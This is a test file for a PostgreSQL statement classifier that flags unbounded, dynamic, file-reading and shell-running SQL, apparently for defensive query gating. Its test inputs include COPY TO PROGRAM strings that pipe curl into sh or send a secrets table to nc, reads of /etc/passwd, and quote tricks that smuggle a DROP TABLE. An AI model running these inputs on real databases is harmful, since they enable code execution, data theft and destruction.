import { beforeAll, describe, expect, it } from 'vitest';
import { classifyPostgres, loadSqlParser, PostgresClassifier } from './index.js';
import { kinds } from './test-helpers.js';

beforeAll(async () => {
  await loadSqlParser();
});

const pg = (text: string) => classifyPostgres(text);

describe('statement kinds and objects', () => {
  it('mixed case: dRoP TaBle x', () => {
    expect(pg('dRoP TaBle x')).toEqual({ protocol: 'postgres', kind: 'DROP', text: 'dRoP TaBle x', objects: ['x'], flags: [] });
  });

  it('comments before the keyword', () => {
    expect(pg('/* hi */ DROP TABLE x')).toMatchObject({ kind: 'DROP', objects: ['x'], flags: [] });
    expect(pg('-- c\nDROP TABLE x')).toMatchObject({ kind: 'DROP', objects: ['x'], flags: [] });
    expect(pg('/* a /* nested */ b */ DROP TABLE x')).toMatchObject({ kind: 'DROP', objects: ['x'] });
    expect(pg('--\r\n/**/DROP TABLE x')).toMatchObject({ kind: 'DROP', objects: ['x'] });
  });

  it('objects as written: schema-qualified, quoted keeps case, deduplicated', () => {
    expect(pg('SELECT * FROM public.orders o JOIN "Customers" c ON c.id = o.cid JOIN orders x ON true JOIN public.orders y ON true')).toMatchObject({
      kind: 'SELECT',
      objects: ['public.orders', 'Customers', 'orders'],
    });
  });

  it('tables in subqueries, joins, CTEs and set operations', () => {
    const c = pg('WITH a AS (SELECT * FROM t1) SELECT * FROM a, (SELECT 1 FROM t2) s WHERE EXISTS (SELECT 1 FROM t3) UNION SELECT x FROM t4');
    expect(c.kind).toBe('SELECT');
    expect(c.objects.sort()).toEqual(['t1', 't2', 't3', 't4']);
  });

  it('a CTE name hides a table only where it is in scope', () => {
    const c = pg('SELECT * FROM orders, (WITH orders AS (SELECT 1) SELECT * FROM orders) x');
    expect(c.objects).toEqual(['orders']);
    // Non-recursive WITH: a CTE cannot see a later sibling, so `b` there is the table.
    expect(pg('WITH a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a, b').objects).toEqual(['b']);
    expect(pg('WITH RECURSIVE a AS (SELECT * FROM b), b AS (SELECT 1) SELECT * FROM a').objects).toEqual([]);
  });

  it('verbs', () => {
    const cases: [string, string, string[]?][] = [
      ['CREATE TABLE t (a int REFERENCES u)', 'CREATE', ['t', 'u']],
      ['ALTER TABLE t ADD COLUMN b int', 'ALTER', ['t']],
      ['ALTER TABLE t RENAME TO u', 'ALTER', ['t']],
      ['GRANT SELECT ON t, s.u TO bob', 'GRANT', ['t', 's.u']],
      ['REVOKE ALL ON ALL TABLES IN SCHEMA public FROM bob', 'REVOKE', ['public.*']],
      ['GRANT admin TO bob', 'GRANT', []],
      ['START TRANSACTION', 'BEGIN'],
      ['BEGIN', 'BEGIN'],
      ['COMMIT', 'COMMIT'],
      ['ROLLBACK TO SAVEPOINT a', 'ROLLBACK'],
      ['SAVEPOINT a', 'SAVEPOINT'],
      ['SET search_path = app', 'SET'],
      ['RESET ALL', 'RESET'],
      ['SHOW work_mem', 'SHOW'],
      ['VACUUM t', 'VACUUM', ['t']],
      ['ANALYZE t', 'ANALYZE', ['t']],
      ['LISTEN c', 'LISTEN'],
      ["NOTIFY c, 'x'", 'NOTIFY'],
      ['LOCK TABLE t IN EXCLUSIVE MODE', 'LOCK', ['t']],
      ['DISCARD PLANS', 'DISCARD'],
      ['REFRESH MATERIALIZED VIEW m', 'REFRESH', ['m']],
      ["COMMENT ON TABLE s.t IS 'x'", 'COMMENT', ['s.t']],
      ["SECURITY LABEL ON TABLE t IS 'x'", 'SECURITY LABEL', ['t']],
      ['CREATE INDEX i ON t (a)', 'CREATE', ['t']],
      ['CREATE VIEW v AS SELECT * FROM t', 'CREATE', ['v', 't']],
      ['DROP FUNCTION f(int), s.g', 'DROP', ['f', 's.g']],
      ['DROP TRIGGER trg ON s.t', 'DROP', ['s.t']],
      ['DROP SCHEMA a, b CASCADE', 'DROP', ['a', 'b']],
      ['DROP DATABASE prod', 'DROP', ['prod']],
      ['DROP ROLE bob', 'DROP'],
      ['ALTER SYSTEM SET work_mem = 1', 'ALTER'],
      ['CHECKPOINT', 'CHECKPOINT'],
      ['DECLARE c CURSOR FOR SELECT * FROM t', 'DECLARE', ['t']],
      ['FETCH 5 FROM c', 'FETCH'],
      ['CLOSE c', 'CLOSE'],
      ['VALUES (1)', 'SELECT'],
      ['TABLE t', 'SELECT', ['t']],
      ['SELECT * INTO t2 FROM t', 'CREATE', ['t2', 't']],
      ['CREATE TABLE t2 AS SELECT * FROM t', 'CREATE', ['t2', 't']],
      ['INSERT INTO t SELECT * FROM u', 'INSERT', ['t', 'u']],
    ];
    for (const [text, kind, objects] of cases) {
      const c = pg(text);
      expect(c.kind, text).toBe(kind);
      if (objects) expect(c.objects, text).toEqual(objects);
      expect(c.flags, text).not.toContain('parse-error');
    }
  });

  it('empty text and comments only', () => {
    expect(pg('')).toEqual({ protocol: 'postgres', kind: 'EMPTY', text: '', objects: [], flags: [] });
    expect(pg('  -- just a comment\n /* and another */ ')).toMatchObject({ kind: 'EMPTY', flags: [] });
    expect(pg(';')).toMatchObject({ kind: 'EMPTY', flags: [] });
  });
});

describe('parse errors', () => {
  it('unparseable text is a parse-error with a clear message', () => {
    const c = pg('select from where');
    expect(c).toMatchObject({ kind: 'UNKNOWN', flags: ['parse-error'], objects: [] });
    expect(c.error).toMatch(/syntax error at or near "where"/);
    expect(c.error).toMatch(/at character 13/);
  });
  it('the position counts characters, as PostgreSQL does', () => {
    expect(pg("select '😀é' from where").error).toMatch(/at character 18\)/);
    expect(classifyPostgres("select 'ü\\'' from where", { standardConformingStrings: false }).error).toMatch(/at character 19\)/);
  });
  it('one bad statement makes the whole string a parse error', () => {
    expect(pg('SELECT 1; DROP TABLE x; SELEC 2')).toMatchObject({ kind: 'UNKNOWN', flags: ['parse-error'] });
  });
  it('unterminated quotes and comments', () => {
    expect(pg("SELECT 'abc").flags).toEqual(['parse-error']);
    expect(pg('SELECT $$abc').flags).toEqual(['parse-error']);
    expect(pg('SELECT 1 /* open').flags).toEqual(['parse-error']);
  });
  it('a NUL character (the parser would stop there) is refused', () => {
    const c = pg('SELECT 1\0; DROP TABLE x');
    expect(c.flags).toEqual(['parse-error']);
    expect(c.error).toMatch(/NUL/);
  });
  it('lone surrogates are refused', () => {
    expect(pg("SELECT '\uD800'; DROP TABLE x; --'").flags).toEqual(['parse-error']);
  });
});

describe('multi-statement', () => {
  it('SELECT 1; DROP TABLE x → parent with a part per statement', () => {
    expect(pg('SELECT 1; DROP TABLE x')).toEqual({
      protocol: 'postgres',
      kind: 'MULTI',
      text: 'SELECT 1; DROP TABLE x',
      objects: ['x'],
      flags: ['multi-statement'],
      parts: [
        { protocol: 'postgres', kind: 'SELECT', text: 'SELECT 1', objects: [], flags: ['multi-statement'] },
        { protocol: 'postgres', kind: 'DROP', text: 'DROP TABLE x', objects: ['x'], flags: ['multi-statement'] },
      ],
    });
  });
  it('flags of the parts are unioned into the parent', () => {
    const c = pg("SELECT 'é'; DELETE FROM t");
    expect(c.kind).toBe('MULTI');
    expect(c.flags.sort()).toEqual(['multi-statement', 'unbounded']);
    expect(c.parts!.map((p) => p.text)).toEqual(["SELECT 'é'", 'DELETE FROM t']);
  });
  it('a trailing semicolon is one statement', () => {
    expect(pg('SELECT 1;')).toMatchObject({ kind: 'SELECT', flags: [] });
  });
  it('a semicolon inside a string, a comment or a dollar quote does not split', () => {
    expect(pg("SELECT 'a; DROP TABLE x'").kind).toBe('SELECT');
    expect(pg('SELECT 1 -- ; DROP TABLE x').kind).toBe('SELECT');
    expect(pg('SELECT $q$; DROP TABLE x$q$').kind).toBe('SELECT');
    expect(pg('SELECT "a;b" FROM t').kind).toBe('SELECT');
  });
  it('a quote that looks closed to a naive lexer', () => {
    expect(kinds(pg("SELECT E'\\'; DROP TABLE x; --'"))).toEqual(['SELECT']);
    expect(kinds(pg("SELECT 'a\\'; DROP TABLE x; --'"))).toEqual(['MULTI', 'SELECT', 'DROP']);
    expect(kinds(pg("SELECT 'it''s'; DROP TABLE x"))).toEqual(['MULTI', 'SELECT', 'DROP']);
    expect(kinds(pg("SELECT 'a'\n'b'; DROP TABLE x"))).toEqual(['MULTI', 'SELECT', 'DROP']);
  });
});

describe('data-modifying CTEs', () => {
  it('WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d exposes the DELETE', () => {
    const text = 'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d';
    expect(pg(text)).toEqual({
      protocol: 'postgres',
      kind: 'SELECT',
      text,
      objects: ['t'],
      flags: ['unbounded'],
      parts: [
        // Its computed columns could carry the deleted rows (sources.ts).
        { protocol: 'postgres', kind: 'SELECT', text, objects: [], flags: [], sources: [{ table: 't', column: '*' }] },
        { protocol: 'postgres', kind: 'DELETE', text, objects: ['t'], flags: ['unbounded'], sources: [{ table: 't', column: '*' }] },
      ],
    });
  });
  it('inside INSERT, UPDATE, subqueries, and nested in each other', () => {
    expect(kinds(pg('WITH d AS (UPDATE t SET a = 1 RETURNING *) INSERT INTO log SELECT * FROM d'))).toEqual(['INSERT', 'INSERT', 'UPDATE']);
    const nested = pg('SELECT * FROM (WITH x AS (WITH y AS (DELETE FROM t WHERE id = 1 RETURNING *) INSERT INTO u SELECT * FROM y RETURNING *) SELECT * FROM x) s');
    expect(kinds(nested)).toEqual(['SELECT', 'SELECT', 'INSERT', 'DELETE']);
    const del = nested.parts!.find((p) => p.kind === 'DELETE')!;
    expect(del.objects).toEqual(['t']);
    expect(del.flags).toEqual([]);
    expect(nested.objects.sort()).toEqual(['t', 'u']);
  });
  it('a bounded DELETE in a CTE is not unbounded', () => {
    expect(pg('WITH d AS (DELETE FROM t WHERE id = 5 RETURNING *) SELECT * FROM d').flags).toEqual([]);
  });
  it('COPY (DELETE … RETURNING) exposes the DELETE', () => {
    expect(kinds(pg('COPY (DELETE FROM t RETURNING *) TO STDOUT'))).toEqual(['COPY', 'COPY', 'DELETE']);
  });
});

describe('unbounded', () => {
  const unbounded = [
    'DELETE FROM t',
    'DELETE FROM t WHERE 1=1',
    'DELETE FROM t WHERE true',
    "DELETE FROM t WHERE 'a'='a'",
    'DELETE FROM t WHERE 1',
    'DELETE FROM t WHERE NOT false',
    'DELETE FROM t WHERE x OR true',
    'DELETE FROM t WHERE x = 1 OR 2 > 1',
    "DELETE FROM t WHERE 'true'::boolean",
    'DELETE FROM t WHERE 1::bool',
    'DELETE FROM t WHERE (1=1) IS TRUE',
    'DELETE FROM t WHERE NULL IS NULL',
    'DELETE FROM t WHERE 1 IN (1, 2)',
    'DELETE FROM t WHERE 1 IS NOT DISTINCT FROM 1',
    "DELETE FROM t WHERE '1' = 1",
    'DELETE FROM t WHERE EXISTS (SELECT 1)',
    'DELETE FROM t WHERE (SELECT true)',
    'DELETE FROM t WHERE x = x',
    'DELETE FROM t WHERE x IS NULL OR x IS NOT NULL',
    'DELETE FROM t WHERE $1',
    "DELETE FROM t WHERE now() > '2000-01-01'",
    'DELETE FROM t WHERE EXISTS (SELECT 1 FROM other WHERE other.flag)',
    'DELETE FROM t USING u WHERE u.x = 1',
    'UPDATE t SET a = 1',
    'UPDATE t SET a = 1 WHERE 1 = 1',
    'UPDATE public.t AS z SET a = 1 FROM u WHERE u.x = 1',
    'TRUNCATE t',
    'MERGE INTO t USING s ON true WHEN MATCHED THEN DELETE',
    'MERGE INTO t USING s ON t.id = s.id WHEN NOT MATCHED BY SOURCE THEN DELETE',
  ];
  for (const text of unbounded) {
    it(text, () => {
      expect(pg(text).flags).toContain('unbounded');
    });
  }
  const bounded = [
    'DELETE FROM t WHERE id=1',
    'DELETE FROM t WHERE id = $1',
    'DELETE FROM t WHERE 1 = id',
    'DELETE FROM t WHERE 1 = 2',
    'DELETE FROM t WHERE false',
    'DELETE FROM t WHERE NULL',
    'DELETE FROM t WHERE id = 1 AND true',
    'DELETE FROM t WHERE id = 1 AND 1 = 1',
    'DELETE FROM t AS x WHERE x.id = 1',
    'DELETE FROM s.t WHERE s.t.id = 1',
    'DELETE FROM t USING u WHERE u.id = t.uid',
    'DELETE FROM t WHERE EXISTS (SELECT 1 FROM u WHERE u.tid = t.id)',
    'DELETE FROM t WHERE CURRENT OF c',
    'UPDATE t SET a = 1 WHERE id IN (1, 2, 3)',
    'MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE',
    'MERGE INTO t USING s ON true WHEN NOT MATCHED THEN INSERT VALUES (1)',
    'INSERT INTO t VALUES (1)',
  ];
  for (const text of bounded) {
    it(`${text} (bounded)`, () => {
      expect(pg(text).flags).not.toContain('unbounded');
    });
  }
  it('DELETE FROM t WHERE 1=1 has the full shape', () => {
    expect(pg('DELETE FROM t WHERE 1=1')).toEqual({
      protocol: 'postgres',
      kind: 'DELETE',
      text: 'DELETE FROM t WHERE 1=1',
      objects: ['t'],
      flags: ['unbounded'],
    });
  });
  it('UPDATE t SET a=1 and TRUNCATE t', () => {
    expect(pg('UPDATE t SET a=1')).toMatchObject({ kind: 'UPDATE', objects: ['t'], flags: ['unbounded'] });
    expect(pg('TRUNCATE t, only s.u')).toMatchObject({ kind: 'TRUNCATE', objects: ['t', 's.u'], flags: ['unbounded'] });
  });
});

describe('dynamic SQL and dangerous functions', () => {
  it('DO $$ BEGIN EXECUTE \'DROP TABLE x\'; END $$ → dynamic-sql with the DROP as a part', () => {
    const text = "DO $$ BEGIN EXECUTE 'DROP TABLE x'; END $$";
    expect(pg(text)).toEqual({
      protocol: 'postgres',
      kind: 'DO',
      text,
      objects: ['x'],
      flags: ['dynamic-sql'],
      parts: [
        { protocol: 'postgres', kind: 'DO', text, objects: [], flags: ['dynamic-sql'] },
        { protocol: 'postgres', kind: 'DROP', text: 'DROP TABLE x', objects: ['x'], flags: [] },
      ],
    });
  });
  it('DO exposes static statements, constant concatenations, and stays dynamic for computed strings', () => {
    const c = pg("DO $$ DECLARE n text := 'x'; BEGIN DELETE FROM t; EXECUTE 'TRUNCATE ' || 'u'; EXECUTE 'DROP TABLE ' || n; END $$");
    expect(c.kind).toBe('DO');
    expect(c.flags).toContain('dynamic-sql');
    expect(kinds(c)).toEqual(['DO', 'DO', 'DELETE', 'TRUNCATE']);
    expect(c.objects.sort()).toEqual(['t', 'u']);
  });
  it('DO with a body that does not parse, or another language: dynamic only', () => {
    expect(pg('DO $$ BEGIN this is not plpgsql; END $$')).toMatchObject({ kind: 'DO', flags: ['dynamic-sql'] });
    expect(pg("DO LANGUAGE plpython3u $$ plpy.execute('DROP TABLE x') $$")).toMatchObject({ kind: 'DO', flags: ['dynamic-sql'] });
  });
  it('DO: a variable used in a WHERE does not restrict rows', () => {
    const c = pg('DO $$ DECLARE flag bool := true; BEGIN DELETE FROM t WHERE flag; DELETE FROM u WHERE id = 1; END $$');
    const dels = c.parts!.filter((p) => p.kind === 'DELETE');
    expect(dels.map((d) => [d.objects[0], d.flags.includes('unbounded')])).toEqual([
      ['t', true],
      ['u', false],
    ]);
  });
  it('nested DO inside an EXECUTE string: each part carries its own text', () => {
    const c = pg("DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''DROP TABLE deep''; END $x$'; END $$");
    expect(c.parts!.map((p) => [p.kind, p.text])).toEqual([
      ['DO', "DO $$ BEGIN EXECUTE 'DO $x$ BEGIN EXECUTE ''DROP TABLE deep''; END $x$'; END $$"],
      ['DO', "DO $x$ BEGIN EXECUTE 'DROP TABLE deep'; END $x$"],
      ['DROP', 'DROP TABLE deep'],
    ]);
  });
  it('EXECUTE strings nested deeper than the limit are dynamic', () => {
    let sql = 'DROP TABLE deep';
    for (let i = 0; i < 8; i++) sql = `DO $d${i}$ BEGIN EXECUTE '${sql.replace(/'/g, "''")}'; END $d${i}$`;
    const c = pg(sql);
    expect(c.flags).toContain('dynamic-sql');
    expect(kinds(c)).not.toContain('DROP');
  });
  it('CALL is dynamic', () => {
    expect(pg('CALL s.p(1)')).toMatchObject({ kind: 'CALL', objects: ['s.p'], flags: ['dynamic-sql'] });
  });
  it('dblink and friends are dynamic-sql', () => {
    expect(pg("SELECT * FROM dblink('dbname=x', 'DROP TABLE x') AS t(a int)")).toMatchObject({ kind: 'SELECT', flags: ['dynamic-sql'] });
    expect(pg("SELECT dblink_exec('DROP TABLE x')").flags).toEqual(['dynamic-sql']);
    expect(pg("SELECT public.dblink_send_query('c', 'DELETE FROM t')").flags).toEqual(['dynamic-sql']);
    expect(pg("SELECT query_to_xml('delete from t returning *', true, true, '')").flags).toEqual(['dynamic-sql']);
    expect(pg("SELECT * FROM ts_stat('SELECT v FROM t')").flags).toEqual(['dynamic-sql']);
  });
  it('file access', () => {
    expect(pg("SELECT pg_read_file('/etc/passwd')").flags).toEqual(['file-access']);
    expect(pg("SELECT lo_import('/etc/passwd')").flags).toEqual(['file-access']);
    expect(pg("COPY t FROM '/etc/passwd'")).toMatchObject({ kind: 'COPY', objects: ['t'], flags: ['file-access'] });
    expect(pg('COPY t TO STDOUT')).toMatchObject({ kind: 'COPY', objects: ['t'], flags: [] });
  });
  it("COPY t TO PROGRAM 'sh'", () => {
    expect(pg("COPY t TO PROGRAM 'sh'")).toEqual({
      protocol: 'postgres',
      kind: 'COPY',
      text: "COPY t TO PROGRAM 'sh'",
      objects: ['t'],
      flags: ['copy-program'],
    });
    expect(pg("copy t from program 'curl http://x | sh'").flags).toEqual(['copy-program']);
    expect(pg("COPY (SELECT * FROM secrets) TO PROGRAM 'nc x 1'")).toMatchObject({ objects: ['secrets'], flags: ['copy-program'] });
  });
});

describe('functions, rules and EXPLAIN', () => {
  it('CREATE FUNCTION … LANGUAGE sql: the body is parsed into parts', () => {
    const c = pg("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM t; SELECT 1'");
    expect(kinds(c)).toEqual(['CREATE', 'CREATE', 'DELETE', 'SELECT']);
    expect(c.flags).toEqual(['unbounded']);
    expect(c.parts![1]).toMatchObject({ text: 'DELETE FROM t', objects: ['t'], flags: ['unbounded'] });
  });
  it('CREATE FUNCTION … BEGIN ATOMIC', () => {
    expect(kinds(pg('CREATE FUNCTION f() RETURNS int BEGIN ATOMIC DELETE FROM t WHERE id = 1; SELECT 1; END'))).toEqual([
      'CREATE',
      'CREATE',
      'DELETE',
      'SELECT',
    ]);
  });
  it('CREATE FUNCTION … plpgsql: static SQL and constant EXECUTE are parts, computed EXECUTE is dynamic', () => {
    const c = pg(`CREATE OR REPLACE FUNCTION f(a int) RETURNS void LANGUAGE plpgsql AS $$
      BEGIN
        DELETE FROM t WHERE id = a;
        EXECUTE 'DROP TABLE x';
        EXECUTE format('DROP TABLE %I', a);
      END $$`);
    expect(kinds(c)).toEqual(['CREATE', 'CREATE', 'DELETE', 'DROP']);
    expect(c.flags).toContain('dynamic-sql');
    expect(c.parts![1]!.flags).toEqual([]); // `a` is a parameter: WHERE id = a is bounded
  });
  it('a function body that does not parse is dynamic', () => {
    expect(pg("CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELET FROM t'").flags).toEqual(['dynamic-sql']);
    expect(pg('CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN nonsense here; END $$').flags).toEqual(['dynamic-sql']);
    expect(pg("CREATE FUNCTION f() RETURNS void LANGUAGE plpython3u AS 'import os'").flags).toEqual(['dynamic-sql']);
  });
  it('CREATE RULE exposes its actions', () => {
    expect(kinds(pg('CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u'))).toEqual(['CREATE', 'CREATE', 'DELETE']);
  });
  it('plain EXPLAIN: kind EXPLAIN with objects, nothing runs', () => {
    expect(pg('EXPLAIN DELETE FROM t')).toEqual({ protocol: 'postgres', kind: 'EXPLAIN', text: 'EXPLAIN DELETE FROM t', objects: ['t'], flags: [] });
  });
  it('EXPLAIN ANALYZE runs the statement: it is a part', () => {
    const c = pg('EXPLAIN ANALYZE DELETE FROM t');
    expect(kinds(c)).toEqual(['EXPLAIN', 'EXPLAIN', 'DELETE']);
    expect(c.flags).toEqual(['unbounded']);
    expect(kinds(pg('EXPLAIN (ANALYZE, BUFFERS) WITH d AS (DELETE FROM t RETURNING 1) SELECT * FROM d'))).toEqual([
      'EXPLAIN',
      'EXPLAIN',
      'SELECT',
      'DELETE',
    ]);
  });
});

describe('PREPARE and EXECUTE', () => {
  it('PREPARE is judged as the statement it prepares', () => {
    expect(pg('PREPARE p AS DELETE FROM t')).toEqual({
      protocol: 'postgres',
      kind: 'DELETE',
      text: 'PREPARE p AS DELETE FROM t',
      objects: ['t'],
      flags: ['unbounded'],
    });
  });
  it('PREPARE p AS DELETE FROM t; EXECUTE p in one string', () => {
    const c = pg('PREPARE p AS DELETE FROM t; EXECUTE p');
    expect(c.kind).toBe('MULTI');
    expect(c.parts).toEqual([
      { protocol: 'postgres', kind: 'DELETE', text: 'PREPARE p AS DELETE FROM t', objects: ['t'], flags: ['unbounded', 'multi-statement'] },
      { protocol: 'postgres', kind: 'DELETE', text: 'EXECUTE p', objects: ['t'], flags: ['unbounded', 'multi-statement'] },
    ]);
  });
  it('PREPARE then EXECUTE in two calls on one classifier', () => {
    const s = new PostgresClassifier();
    s.classify('PREPARE p (int) AS DELETE FROM t WHERE 1 = 1 OR id = $1');
    expect(s.classify('EXECUTE p(5)')).toEqual({
      protocol: 'postgres',
      kind: 'DELETE',
      text: 'EXECUTE p(5)',
      objects: ['t'],
      flags: ['unbounded'],
    });
  });
  it('judge changes nothing until settle says what the server ran', () => {
    const s = new PostgresClassifier();
    s.classify('PREPARE p AS DELETE FROM t');
    const j = s.judge('DEALLOCATE p; PREPARE p AS SELECT 1; EXECUTE p');
    expect(kinds(j.cmd)).toEqual(['MULTI', 'DEALLOCATE', 'SELECT', 'SELECT']); // the text sees its own changes
    expect(j.effects?.map((e) => e.t)).toEqual(['deallocate', 'prepare']);
    expect(s.classify('EXECUTE p').kind).toBe('DELETE');
    expect(s.judge('SELECT 1').effects).toBeNull();
    // Failed: the DEALLOCATE may not have run, the PREPARE may have: either.
    s.settle(j.effects!, false);
    expect(kinds(s.classify('EXECUTE p'))).toEqual(['EXECUTE', 'DELETE', 'SELECT']);
    // Ran: exactly what the text did.
    s.settle(j.effects!, true);
    expect(s.classify('EXECUTE p')).toMatchObject({ kind: 'SELECT', flags: [] });
    s.settle(s.judge('DISCARD ALL').effects!, true);
    expect(s.classify('EXECUTE p').flags).toEqual(['dynamic-sql']);
  });
  it('cursors: a DECLARE counts once settled as run; a CLOSE forgets at once', () => {
    const s = new PostgresClassifier();
    const fetchSources = () => s.classify('FETCH ALL FROM c').sources;
    expect(fetchSources()).toEqual([{ column: '*' }]); // unknown: any column
    const d = s.judge('DECLARE c CURSOR FOR SELECT ssn FROM people');
    expect(fetchSources()).toEqual([{ column: '*' }]);
    s.settle(d.effects!, true);
    expect(fetchSources()).toEqual([{ column: 'ssn' }]);
    // A DECLARE that failed, and a CLOSE whether or not it runs, leave the cursor unknown.
    s.settle(s.judge('DECLARE c CURSOR FOR SELECT 1').effects!, false);
    expect(fetchSources()).toEqual([{ column: '*' }]);
    s.settle(d.effects!, true);
    s.judge('CLOSE c');
    expect(fetchSources()).toEqual([{ column: '*' }]);
    // Settled in order: DECLARE then CLOSE in one text leaves none.
    s.settle(s.judge('DECLARE c CURSOR FOR SELECT ssn FROM people; CLOSE c').effects!, true);
    expect(fetchSources()).toEqual([{ column: '*' }]);
    s.settle(d.effects!, true);
    s.forgetCursors();
    expect(fetchSources()).toEqual([{ column: '*' }]);
  });
  it('EXECUTE of an unknown statement is dynamic; stateless classification knows none', () => {
    expect(new PostgresClassifier().classify('EXECUTE q')).toEqual({
      protocol: 'postgres',
      kind: 'EXECUTE',
      text: 'EXECUTE q',
      objects: [],
      flags: ['dynamic-sql'],
    });
    new PostgresClassifier().classify('PREPARE q AS SELECT 1');
    expect(pg('EXECUTE q').flags).toEqual(['dynamic-sql']);
  });
  it('DEALLOCATE, DEALLOCATE ALL and DISCARD ALL forget', () => {
    const s = new PostgresClassifier();
    s.classify('PREPARE a AS SELECT 1');
    s.classify('PREPARE b AS SELECT 2');
    s.classify('PREPARE c AS SELECT 3');
    s.classify('DEALLOCATE a');
    expect(s.classify('EXECUTE a').flags).toEqual(['dynamic-sql']);
    expect(s.classify('EXECUTE b').kind).toBe('SELECT');
    s.classify('DEALLOCATE ALL');
    expect(s.classify('EXECUTE b').flags).toEqual(['dynamic-sql']);
    s.classify('PREPARE d AS SELECT 4');
    s.classify('DISCARD ALL');
    expect(s.classify('EXECUTE d').flags).toEqual(['dynamic-sql']);
    s.standardConformingStrings = true; // the session confirms the setting after DISCARD ALL
  });
  it('re-PREPARE of a known name is judged as either statement', () => {
    const s = new PostgresClassifier();
    s.classify('PREPARE p AS SELECT * FROM t');
    s.classify('PREPARE p AS DELETE FROM t'); // the server refuses it, but we cannot know that here
    const c = s.classify('EXECUTE p');
    expect(kinds(c)).toEqual(['EXECUTE', 'SELECT', 'DELETE']);
    expect(c.flags).toContain('unbounded');
  });
  it('EXECUTE parameters are looked at too', () => {
    const s = new PostgresClassifier();
    s.classify('PREPARE p(int) AS SELECT $1');
    expect(s.classify("EXECUTE p((SELECT count(*) FROM dblink('x', 'y') AS r(a int)))").flags).toEqual(['dynamic-sql']);
  });
  it('CREATE TABLE AS EXECUTE and EXPLAIN ANALYZE EXECUTE resolve the statement', () => {
    const s = new PostgresClassifier();
    s.classify('PREPARE p AS DELETE FROM t RETURNING *');
    expect(kinds(s.classify('CREATE TABLE x AS EXECUTE p'))).toEqual(['CREATE', 'CREATE', 'DELETE']);
    expect(kinds(s.classify('EXPLAIN ANALYZE EXECUTE p'))).toEqual(['EXPLAIN', 'EXPLAIN', 'DELETE']);
  });
  it('protocol-level prepared statements can be registered', () => {
    const s = new PostgresClassifier();
    s.remember('stmt1', s.classify('DELETE FROM t'));
    expect(s.classify('EXECUTE stmt1')).toMatchObject({ kind: 'DELETE', flags: ['unbounded'] });
    s.forget('stmt1');
    expect(s.classify('EXECUTE stmt1').flags).toEqual(['dynamic-sql']);
  });
  it('a DO block that prepares a statement is remembered', () => {
    const s = new PostgresClassifier();
    s.classify("DO $$ BEGIN EXECUTE 'PREPARE p AS DELETE FROM t'; END $$");
    expect(s.classify('EXECUTE p')).toMatchObject({ kind: 'DELETE', flags: ['unbounded'] });
  });
  it('a function body that prepares is not applied now', () => {
    const s = new PostgresClassifier();
    s.classify("CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'PREPARE p AS DELETE FROM t'; END $$");
    expect(s.classify('EXECUTE p').flags).toEqual(['dynamic-sql']);
  });
});

describe('standard_conforming_strings', () => {
  const trick = "SELECT 'a\\'; DROP TABLE x; --'";
  it('on (default): the backslash is an ordinary character', () => {
    expect(kinds(pg(trick))).toEqual(['MULTI', 'SELECT', 'DROP']);
  });
  it('off: the backslash escapes the quote, as the server reads it', () => {
    expect(kinds(classifyPostgres(trick, { standardConformingStrings: false }))).toEqual(['SELECT']);
    const s = new PostgresClassifier({ standardConformingStrings: false });
    const c = s.classify("SELECT 1; SELECT 'x\\'y'; DELETE FROM t WHERE 'a\\'' = 'a'''");
    expect(c.parts!.map((p) => [p.kind, p.text])).toEqual([
      ['SELECT', 'SELECT 1'],
      ['SELECT', "SELECT 'x\\'y'"],
      ['DELETE', "DELETE FROM t WHERE 'a\\'' = 'a'''"],
    ]);
    expect(c.parts![2]!.flags).toContain('unbounded');
    expect(kinds(s.classify("SELECT 'a\\\\'; DROP TABLE x; --'"))).toEqual(['MULTI', 'SELECT', 'DROP']);
  });
  it('the setting can change on a classifier', () => {
    const s = new PostgresClassifier();
    expect(kinds(s.classify(trick))).toEqual(['MULTI', 'SELECT', 'DROP']);
    s.standardConformingStrings = false;
    expect(kinds(s.classify(trick))).toEqual(['SELECT']);
  });
  it('after SET standard_conforming_strings, backslash literals are refused until the session confirms the value', () => {
    const s = new PostgresClassifier();
    s.classify('SET standard_conforming_strings = off');
    expect(s.classify(trick).flags).toEqual(['parse-error']);
    expect(s.classify("SELECT E'\\n', 'no backslash'").kind).toBe('SELECT');
    s.standardConformingStrings = false; // ParameterStatus arrived
    expect(kinds(s.classify(trick))).toEqual(['SELECT']);
    s.classify("SELECT set_config('standard_conforming_strings', 'on', false)");
    expect(s.classify(trick).flags).toEqual(['parse-error']);
    s.standardConformingStrings = true;
    expect(kinds(s.classify(trick))).toEqual(['MULTI', 'SELECT', 'DROP']);
  });
});
